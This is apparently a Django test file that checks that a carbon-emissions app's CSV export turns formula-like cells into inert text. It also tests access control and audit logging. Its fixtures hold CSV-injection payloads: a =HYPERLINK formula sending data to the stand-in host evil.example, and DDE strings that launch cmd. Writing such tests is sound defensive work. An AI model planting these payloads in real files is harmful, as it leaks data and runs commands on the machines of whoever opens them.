"""CSV export of records: what a spreadsheet would run as a formula is exported as text.

The attack: an editor imports rows whose text cells are formulas; a colleague exports the
project and opens the file in a spreadsheet, which would follow ``=HYPERLINK`` (sending data away)
or run ``@SUM``/``+cmd|…`` (DDE). Import keeps what was typed; the export neutralises it."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.core.files.uploadedfile import SimpleUploadedFile

from bastion import spreadsheets
from bastion.audit.models import AuditEvent
from bastion.records.models import EmissionRecord
from bastion.tenancy import context

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Details")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "+cmd|' /C calc'!A0"
MINUS = "-1+1|cmd"
HEADER = ["scope", "category", "activity", "quantity", "unit", "period_start", "period_end", "site", "supplier", "notes"]


def _url(ns, tail: str) -> str:
    return f"/api/v1/orgs/{ns.slug}/projects/{ns.project.id}{tail}"


def _import(client, ns, rows) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    upload = SimpleUploadedFile("records.csv", out.getvalue().encode(), "text/csv")
    response = client.post(_url(ns, "/imports"), data={"kind": "emissions", "file": upload})
    assert response.status_code == 201, response.content


def _export(client, ns, kind="emissions"):
    return client.get(_url(ns, f"/export?kind={kind}"))


def test_formulas_imported_as_text_are_exported_as_text(world, client_for):
    _import(client_for(world.acme.users["editor"]), world.acme, [
        [1, "mobile_combustion", HYPERLINK, "120.5", "L", "2025-05-01", "2025-05-31", SUM, "", DDE],
        [1, "mobile_combustion", MINUS, "0", "L", "2025-06-01", "2025-06-30", "Leeds", "", "plain notes"],
    ])
    with context.tenant_context(world.acme.organisation.id):  # stored as typed
        assert EmissionRecord.objects.get(activity=HYPERLINK).notes == DDE

    response = _export(client_for(world.acme.users["viewer"]), world.acme)
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == HEADER
    imported = {row["activity"]: row for row in rows if row["period_start"] >= "2025-05-01"}
    attack = imported["'" + HYPERLINK]
    assert attack["site"] == "'" + SUM and attack["notes"] == "'" + DDE
    assert attack["quantity"] == "120.500000" and Decimal(attack["quantity"]) == Decimal("120.5")  # a number
    assert attack["scope"] == "1" and attack["period_start"] == "2025-05-01"
    assert "'" + MINUS in imported and imported["'" + MINUS]["site"] == "Leeds"
    assert imported["'" + MINUS]["notes"] == "plain notes"
    for row in rows:  # no cell of the file starts as a formula
        assert not any(value.startswith(spreadsheets.FORMULA_TRIGGERS) for value in row.values()), row
    with context.tenant_context(world.acme.organisation.id):
        [event] = AuditEvent.objects.filter(chain_id=world.acme.organisation.id, action="records.exported")
        assert event.changes == {"kind": "emissions", "rows": len(rows)}


def test_energy_exports_too(world, client_for):
    response = _export(client_for(world.acme.users["viewer"]), world.acme, "energy")
    assert response.status_code == 200
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["meter"] == "MTR-1" and row["kwh"] == "5400.000"


def test_the_outsider_and_bad_input_get_4xx(world, client_for):
    assert _export(client_for(world.globex.users["owner"]), world.acme).status_code == 404
    bad = _export(client_for(world.acme.users["viewer"]), world.acme, "payroll")
    assert bad.status_code == 422 and "kind" in bad.json()["error"]["fields"]


def test_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not():
    assert spreadsheets.cell(Decimal("-12.500")) == "-12.500"
    assert spreadsheets.cell(-3) == "-3" and spreadsheets.cell(-0.5) == "-0.5"
    assert spreadsheets.cell(Decimal("1E+3")) == "1000"
    for text in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1"]:
        assert spreadsheets.cell(text) == "'" + text
    assert spreadsheets.cell("1-1") == "1-1" and spreadsheets.cell("") == "" and spreadsheets.cell(None) == ""


def test_the_console_links_to_the_exports(world, client_for):
    page = client_for(world.acme.users["viewer"]).get(f"/o/acme/p/{world.acme.project.id}/")
    assert page.status_code == 200
    assert _url(world.acme, "/export?kind=emissions") in page.content.decode()
